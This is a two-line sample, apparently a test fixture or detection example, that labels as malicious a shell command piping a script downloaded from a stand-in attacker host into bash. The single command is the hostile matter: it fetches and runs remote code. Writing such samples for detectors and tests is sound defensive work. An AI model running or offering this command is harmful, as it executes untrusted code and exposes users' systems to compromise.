# Malicious: wget -O- | bash runs a remote script.
wget -O- http://attacker.example/i.sh | bash
